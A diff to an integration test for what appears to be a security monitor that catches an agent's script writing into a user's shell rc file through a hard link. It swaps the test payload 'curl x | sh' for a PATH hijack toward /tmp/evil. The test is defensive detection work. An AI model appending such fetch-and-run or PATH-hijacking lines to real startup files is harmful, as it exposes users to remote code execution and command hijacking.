@@ -112,7 +112,8 @@ struct IdentityIntegrationTests {
         let original = "# the user's own file\n"
         try h.write(target, original)
         #expect(link(h.path(target), h.path("rc.txt")) == 0)
-        try h.write("tool.sh", (mode.isEmpty ? "sleep 0.5\n" : "") + "echo 'curl x | sh' >> rc.txt\n")
+        // The line itself is harmless text: the tool script is read and judged at the hold too.
+        try h.write("tool.sh", (mode.isEmpty ? "sleep 0.5\n" : "") + "echo 'export PATH=/tmp/evil:$PATH' >> rc.txt\n")
         try h.write("agent.sh", "sh tool.sh > tool-output 2>&1\necho $? > status\necho agent-done\n")
         let result = try h.run(["env", "HOME=\(h.path("home"))", "sh", "agent.sh"], extra: mode + ["--name", "claude-code"], timeout: 120)
         #expect(result.status == 0, "\(result.stderr)")
@@ -122,7 +123,7 @@ struct IdentityIntegrationTests {
         #expect(alert.string("output")?.contains(h.path("rc.txt")) == true && alert.string("output")?.contains(h.path(target)) == true)
         let content = try String(contentsOfFile: h.path(target), encoding: .utf8)
         if mode.isEmpty {
-            #expect(content.contains("curl x | sh"), "audit mode lets the write happen")
+            #expect(content.contains("/tmp/evil"), "audit mode lets the write happen")
         } else {
             #expect(content == original, "the write never happened: \(content)")
             #expect((alert["warden"] as? [String: Any])?["mechanism"] as? String == "hold-kill")
